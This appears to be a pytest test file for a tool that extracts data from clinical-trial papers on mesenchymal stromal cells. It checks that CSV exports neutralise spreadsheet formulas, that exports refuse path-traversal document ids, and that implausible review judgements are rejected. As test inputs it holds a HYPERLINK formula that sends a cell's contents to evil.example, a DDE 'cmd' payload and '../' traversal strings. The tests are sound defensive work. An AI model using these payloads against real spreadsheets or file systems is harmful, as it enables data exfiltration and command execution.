"""A paper's text and a colleague's CSV are untrusted: no formula runs in a spreadsheet, no file is
written outside the export folder, no implausible judgement is recorded."""

from __future__ import annotations

import csv

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

from extract.cli import app
from extract.dataset import reviews
from extract.dataset.database import connect, value_id
from extract.dataset.exports import export
from extract.dataset.records import ReviewAction
from extract.store.spreadsheet import escape_cell, escape_id, unescape_cell, unescape_id

from conftest import built_dataset, private_copy, TRIAL_DISC, TRIAL_FECAL

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def built(tmp_path_factory, nlp):
    return built_dataset(tmp_path_factory, nlp, [TRIAL_DISC, TRIAL_FECAL])


@pytest.fixture
def database(built, tmp_path):
    return private_copy(built, tmp_path)


def _raw_cells(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


# ---------------------------------------------------------------- formula injection


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1", "'", "''x"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_unchanged(text):
    written = escape_cell(text)
    assert written.startswith("'")
    assert unescape_cell(written) == text


@pytest.mark.parametrize("text", ["-5", "+1.5e3", "-0.25", "plain", "", "IV", "value=1;unit=1e6 cells;per=kg"])
def test_numbers_and_plain_text_are_left_as_they_are(text):
    assert escape_cell(text) == text and unescape_cell(text) == text


@pytest.mark.parametrize("identifier", ["012345678901", "123456e78901", "000000000001"])
def test_an_all_digit_value_id_keeps_its_form_in_a_spreadsheet(identifier):
    assert escape_id(identifier) == "'" + identifier
    assert unescape_id(escape_id(identifier)) == identifier
    assert escape_id("3fa2b9c01d4e") == "3fa2b9c01d4e"


def test_run_values_csv_neutralises_formulas_in_evidence_and_scores_as_before(tmp_path):
    paper = tmp_path / "papers" / "=HYPERLINK.txt"
    paper.parent.mkdir()
    paper.write_text(
        "A trial of mesenchymal stromal cells\n\nMethods\n\n"
        f"{HYPERLINK} Patients received allogeneic bone marrow MSCs intravenously.\n"
        "-1 patients received autologous MSCs by intrathecal injection.\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["run", str(paper.parent), "--out", str(out), "--pipeline", "blank", "--workers", "1"])
    assert result.exit_code == 0, result.output
    cells = _raw_cells(out / "values.csv")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)

    from extract.score.gold import load_predictions

    predictions = load_predictions(out)
    assert set(predictions.doc_id) == {"=HYPERLINK"}
    assert predictions.evidence.str.startswith("=HYPERLINK").any()


def test_errors_csv_neutralises_formulas(tmp_path):
    pred, gold = tmp_path / "pred", tmp_path / "gold"
    pred.mkdir(), gold.mkdir()
    pd.DataFrame([{"doc_id": "d", "study_key": "", "field": "route", "value": "intravenous", "evidence": HYPERLINK}]).to_csv(
        pred / "values.csv", index=False
    )
    pd.DataFrame([{"doc_id": "d", "study_key": "", "field": "route", "value": "intrathecal", "evidence": "@cmd"}]).to_csv(
        gold / "d.csv", index=False
    )
    result = CliRunner().invoke(app, ["score", "--gold", str(gold), "--pred", str(pred), "--resamples", "10"])
    assert result.exit_code == 0, result.output
    cells = _raw_cells(pred / "errors.csv")
    assert "'" + HYPERLINK in cells and "'@cmd" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)


def test_the_export_is_spreadsheet_safe_and_its_round_trip_through_import_is_lossless(database, tmp_path):
    con = connect(database)
    try:
        reviews.record(con, [reviews.added_value("PMC5320771", "", "disease", "-GVHD", HYPERLINK, con=con)])
        export(con, tmp_path, ["csv"])
        cells = _raw_cells(tmp_path / "values.csv")
        assert "'" + HYPERLINK in cells and "'-GVHD" in cells
        assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
        edited = pd.read_csv(tmp_path / "values.csv", dtype=str, keep_default_na=False)
        added = edited.index[edited.value == "'-GVHD"][0]
        edited.loc[added, "review"] = "confirmed"  # the same judgement again: nothing new
        edited.loc[edited.field == "route", "review"] = "confirmed"
        edited.to_csv(tmp_path / "edited.csv", index=False)
        recorded, problems = reviews.import_csv(con, tmp_path / "edited.csv")
        assert problems == [] and recorded >= 1
        held = con.execute("SELECT value, evidence FROM corrections WHERE field = 'disease'").fetchall()
        assert ("-GVHD", HYPERLINK) in held
        assert not con.execute("SELECT count(*) FROM corrections WHERE starts_with(value_id, '''')").fetchone()[0]
    finally:
        con.close()


def test_an_excel_csv_in_windows_1252_is_imported(database, tmp_path):
    con = connect(database)
    try:
        export(con, tmp_path, ["csv"])
        values = pd.read_csv(tmp_path / "values.csv", dtype=str, keep_default_na=False)
        values.loc[values.field == "route", ["review", "note"]] = ["confirmed", "checked against Table 1 – 10⁶ × ok"]
        values["evidence"] = values["evidence"].str.replace("×", "x")
        text = values.to_csv(index=False).replace("⁶", "6")
        (tmp_path / "excel.csv").write_bytes(text.encode("cp1252", errors="replace"))
        recorded, problems = reviews.import_csv(con, tmp_path / "excel.csv")
        assert problems == [] and recorded >= 1
        notes = {row[0] for row in con.execute("SELECT note FROM corrections").fetchall()}
        assert "checked against Table 1 – 106 × ok" in notes
    finally:
        con.close()


# ---------------------------------------------------------------- doc ids and the gold export


@pytest.mark.parametrize("doc_id", ["../../../T", "/tmp/x/ABSOLUTE", "..", "a/../../b"])
def test_review_add_refuses_a_paper_the_dataset_does_not_hold(database, doc_id):
    con = connect(database)
    try:
        with pytest.raises(reviews.ReviewError, match="no paper"):
            reviews.added_value(doc_id, "", "route", "intravenous", "They were given IV.", con=con)
    finally:
        con.close()
    result = CliRunner().invoke(app, ["review", "add", str(database), doc_id, "route", "intravenous", "--evidence", "IV."])
    assert result.exit_code == 2 and "no paper" in result.output


def test_an_imported_added_row_naming_a_path_is_refused(database, tmp_path):
    rows = [{"doc_id": "../../../escaped", "study_key": "", "field": "route", "value": "intravenous", "review": "added",
             "evidence": "IV"}]
    pd.DataFrame(rows).to_csv(tmp_path / "colleague.csv", index=False)
    con = connect(database)
    try:
        recorded, problems = reviews.import_csv(con, tmp_path / "colleague.csv")
        assert recorded == 0 and "no paper" in problems[0].message
        export(con, tmp_path / "out", ["gold"])
    finally:
        con.close()
    assert not (tmp_path / "escaped.csv").exists() and not list(tmp_path.parent.glob("escaped*"))


def test_the_gold_export_never_writes_outside_its_folder(database, tmp_path):
    """Doc ids already in a dataset (written by an older version) are file names only after encoding."""
    con = connect(database)
    try:
        for doc_id in ("../../../T", str(tmp_path / "x" / "ABSOLUTE"), ".."):
            con.execute(
                "INSERT INTO corrections (correction_id, value_id, doc_id, study_key, field, value, action, evidence) "
                "VALUES ((SELECT coalesce(max(correction_id), 0) + 1 FROM corrections), ?, ?, '', 'route', 'intravenous', 'added', 'IV')",
                [value_id(doc_id, "", "route", "intravenous"), doc_id],
            )
        written = export(con, tmp_path / "out", ["gold"])
    finally:
        con.close()
    folder = (tmp_path / "out" / "gold").resolve()
    assert len(written) == 3 and all(path.resolve().parent == folder for path in written)
    assert not (tmp_path / "x").exists()
    recovered = pd.concat([pd.read_csv(p, dtype=str, keep_default_na=False) for p in written]).doc_id
    assert {"../../../T", ".."} <= set(recovered)


# ---------------------------------------------------------------- judgements checked


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("route", "intravenus", "did you mean 'intravenous'"),
        ("donor_type", "alogeneic", "did you mean 'allogeneic'"),
        ("donor_type", "xenogeneic", "is not one of"),
        ("source", "Bone Marrow", "is not one of"),
        ("dose", "value=NaN", "not a finite number"),
        ("dose", "value=inf;per=kg", "not a finite number"),
        ("dose", "value=-5", "negative"),
        ("dose", "low=5;high=2", "low is above high"),
        ("alloantibody_result", "positive=50;total=10", "more than total"),
        ("alloantibody_result", "percent=150", "over 100"),
        ("sample_size", "total=-3", "negative"),
        ("presensitized", "percent=-4", "negative"),
        ("follow_up", "months=nan", "not a finite number"),
    ],
)
def test_implausible_or_misspelt_judgements_are_refused_with_the_reason(field, value, reason):
    with pytest.raises(reviews.ReviewError, match=reason.replace("(", r"\(")):
        reviews.check_value(field, value)


@pytest.mark.parametrize(
    ("field", "value"),
    [("route", "intravenous"), ("route", "intraosseous"), ("route", "endobronchial"), ("design", "phase IIa"),
     ("design", "phase II/III"), ("cell_type", "stromal vascular fraction"), ("dose", "value=0.5;unit=1e6 cells;per=kg"),
     ("alloantibody_result", "positive=0;total=10"), ("disease", "graft-versus-host disease")],
)
def test_values_in_the_vocabulary_or_of_an_allowed_form_are_accepted(field, value):
    reviews.check_value(field, value)


def test_review_correct_refuses_a_misspelt_route(database):
    con = duckdb.connect(str(database), read_only=True)
    route = con.execute("SELECT value_id FROM extracted_values WHERE field = 'route' LIMIT 1").fetchone()[0]
    con.close()
    result = CliRunner().invoke(app, ["review", "correct", str(database), route, "intravenus"])
    assert result.exit_code == 2 and "did you mean 'intravenous'" in result.output
    con = connect(database)
    try:
        with pytest.raises(reviews.ReviewError):
            reviews.judgement(con, route, ReviewAction.corrected, "intravenus")
        assert con.execute("SELECT count(*) FROM corrections").fetchone()[0] == 0
    finally:
        con.close()
